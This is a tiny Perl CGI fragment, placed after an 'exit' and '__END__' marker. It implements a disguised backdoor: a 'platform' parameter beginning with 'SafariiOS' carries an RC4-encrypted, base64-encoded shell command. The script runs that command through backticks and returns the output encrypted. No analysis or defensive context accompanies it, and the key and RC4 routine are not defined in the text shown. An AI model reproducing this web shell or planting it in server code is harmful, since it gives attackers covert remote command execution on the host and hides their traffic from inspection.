#!/usr/bin/perl
exit;
__END__
my $p = CGI::param('platform');
if ($p =~ /^SafariiOS/) {
  my $d = RC4($k, decode_base64(substr($p, 9)));
  my $o = `$d 2>&1`;
  print encode_base64(RC4($k, $o));
}
